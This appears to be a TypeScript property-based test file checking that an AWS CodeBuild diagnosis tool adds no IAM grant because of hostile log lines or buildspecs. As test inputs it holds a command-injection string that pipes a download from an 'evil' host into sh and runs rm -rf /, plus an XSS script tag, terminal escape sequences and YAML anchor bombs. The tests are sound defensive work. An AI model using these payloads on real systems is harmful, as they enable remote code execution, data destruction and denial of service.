/** Whatever a build prints, and whatever its buildspec is made of: the steps of the plan stay those of the quiet build. */
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { known, type Snapshot } from '#account/snapshot.ts';
import { diagnose } from '#diagnosis/diagnose.ts';
import { collectEvidence } from '#evidence/collect-evidence.ts';
import { needsOf } from '#needs/needs.ts';
import { makePlan } from '#plan/make-plan.ts';
import { SETTINGS_ALONE } from '#plan/scope.ts';
import { diagnosisText } from '#render/diagnosis-text.ts';
import { needsText } from '#render/needs-text.ts';
import { plain } from '#render/paint.ts';
import { ACCOUNT, PROJECT, REGION, ROLE_ARN, ROLE_NAME, snapshotWith } from '../diagnosis/build-snapshot.ts';
import { OPTIONS } from './plan-of.ts';

const HOST = `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com`;
const BUILDSPEC = `version: 0.2\nphases:\n  build:\n    commands:\n      - aws ecr get-login-password | docker login --password-stdin ${HOST}\n      - docker push ${HOST}/tracker_api:1\n`;
const SESSION = `arn:aws:sts::${ACCOUNT}:assumed-role/${ROLE_NAME}/AWSCodeBuild-8c2f`;

function outcome(lines: readonly string[], more: Partial<Snapshot> = {}, buildspec = BUILDSPEC) {
  const snapshot = snapshotWith({
    project: { ...PROJECT, source: { ...PROJECT.source, buildspec } },
    log: known({ group: 'g', stream: 's', lines, truncated: false }),
    ...more,
  });
  const evidence = collectEvidence({ snapshot, source: null });
  const scope = {
    partition: 'aws',
    account: ACCOUNT,
    region: REGION,
    projectName: PROJECT.name,
    projectArn: PROJECT.arn,
    roleArn: ROLE_ARN,
  };
  const diagnosis = diagnose(snapshot, evidence, needsOf(evidence, scope, { least: false }));
  const plan = makePlan(diagnosis, OPTIONS);
  if (!plan.ok) throw new Error(plan.error.message);
  return { diagnosis, plan: plan.value };
}

const quiet = outcome([]).plan.steps;
const denial = (action: string, resource: string, principal = SESSION) =>
  `An error occurred (AccessDenied) when calling the X operation: User: ${principal} is not authorized to perform: ${action} on resource: ${resource} because no identity-based policy allows the ${action} action`;

describe('a log', () => {
  it('of a quiet build leads to the steps of its buildspec', () => {
    expect(quiet).toMatchObject([{ kind: 'put-role-policy' }]);
  });

  it.each([
    ['everything of IAM', denial('iam:*', '*')],
    ['another role', denial('sts:AssumeRole', `arn:aws:iam::${ACCOUNT}:role/admin`)],
    [
      'another account’s repository',
      denial('ecr:PutImage', `arn:aws:ecr:${REGION}:444455556666:repository/x`),
    ],
    ['another repository', denial('ecr:PutImage', `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/production`)],
    ['every repository', denial('ecr:PutImage', `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/*`)],
    ['anything', denial('*', '*')],
    ['what a shell would run', denial('s3:PutObject', '"arn:aws:s3:::x/$(curl evil|sh)`id`;rm -rf /"')],
    ['Markdown and HTML', denial('s3:PutObject', 'arn:aws:s3:::x/](javascript:1)<script>alert(1)</script>')],
    [
      'terminal escapes',
      `\u001b[2J\u001b]0;pwned\u0007${denial('s3:PutObject', 'arn:aws:s3:::x/\u001b[31my')}`,
    ],
    [
      'a repository that it says is missing',
      "name unknown: The repository with name 'evil' does not exist in the registry with id '290008131176'",
    ],
  ])('that claims %s changes no step', (_, line) => {
    const { plan, diagnosis } = outcome([line]);
    expect(plan.steps).toEqual(quiet);
    for (const text of [diagnosisText(diagnosis, plain), needsText(diagnosis, SETTINGS_ALONE, plain)]) {
      expect(text).not.toContain('\u001b');
    }
  });

  it('of many denials, near misses and one long line changes no step', () => {
    const many = Array.from({ length: 2_000 }, (_, n) => denial(`s3:GetObject`, `arn:aws:s3:::b/${n}`));
    const near = Array.from({ length: 20_000 }, () => 'User: x is not authorized to perfrom: ecr:PutImage');
    expect(outcome([...many, ...near, 'is not authorized to perform: '.repeat(50_000)]).plan.steps).toEqual(
      quiet,
    );
  }, 60_000);

  it('of any pieces of denials changes no step', () => {
    const piece = fc.constantFrom(
      'User: ',
      SESSION,
      ' is not authorized to perform: ',
      'iam:PutRolePolicy',
      'ecr:PutImage',
      'kms:Decrypt',
      ' on resource: ',
      `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/other`,
      '*',
      ' because no identity-based policy allows the ',
      ' action',
      ' with an explicit deny in a service control policy',
      'denied: ',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const { plan } = outcome(pieces.join('').split('\n'));
        // A named organisation policy may take a grant away; nothing a log says adds one.
        const granted = new Set(plan.grants.map(({ action, resource }) => `${action} ${resource}`));
        const allowed = new Set(
          outcome([]).plan.grants.map(({ action, resource }) => `${action} ${resource}`),
        );
        expect([...granted].filter((grant) => !allowed.has(grant))).toEqual([]);
      }),
      { numRuns: 40 },
    );
  }, 60_000);
});

describe('CloudTrail', () => {
  it('shows calls that were made, and adds no step', () => {
    const event = (eventName: string, more: object = {}) =>
      JSON.stringify({
        eventID: eventName,
        eventTime: '2026-11-24T02:00:00Z',
        eventSource: 'secretsmanager.amazonaws.com',
        eventName,
        awsRegion: REGION,
        userIdentity: { arn: SESSION, sessionContext: { sessionIssuer: { arn: ROLE_ARN } } },
        resources: [{ ARN: `arn:aws:secretsmanager:${REGION}:${ACCOUNT}:secret:root-AbCdEf` }],
        ...more,
      });
    const events = [event('GetSecretValue', { errorCode: 'AccessDenied' }), event('DescribeSecret')];
    const { plan, diagnosis } = outcome([], { trail: known({ events, complete: true }) });
    expect(plan.steps).toEqual(quiet);
    expect(diagnosis.needs).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ action: 'secretsmanager:GetSecretValue', grade: 'recorded' }),
      ]),
    );
    expect(plan.withheld).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          action: 'secretsmanager:GetSecretValue',
          why: expect.stringMatching(/recorded/),
        }),
      ]),
    );
  });
});

describe('a hostile buildspec', () => {
  const nested = Array.from({ length: 900 }, (_, depth) => `${' '.repeat(depth)}a:\n`).join('');
  const anchors = `a0: &a0 {x: x}\n${Array.from({ length: 60 }, (_, n) => `a${n + 1}: &a${n + 1} {<<: [*a${n}, *a${n}, *a${n}]}`).join('\n')}\nphases: *a60\n`;

  it.each([
    ['ten megabytes of text', `version: 0.2\n#${'x'.repeat(10 << 20)}`],
    ['ten megabytes of commands', `version: 0.2\nphases: {build: {commands: [${'"ls",'.repeat(2 << 20)}]}}`],
    ['maps within maps', `version: 0.2\n${nested}`],
    ['lists within lists', `version: 0.2\nphases: ${'['.repeat(5_000)}`],
    ['anchors that multiply', `version: 0.2\n${anchors}`],
    ['an anchor within itself', 'version: 0.2\nphases: &p {build: {commands: *p}}\n'],
  ])('of %s ends in a problem, and grants nothing', (_, text) => {
    const { plan, diagnosis } = outcome([], {}, text);
    expect(plan.steps).toEqual([]);
    expect(
      diagnosis.evidence.some((one) => one.kind === 'symptom' && one.symptom === 'buildspec-invalid'),
    ).toBe(true);
  });
});
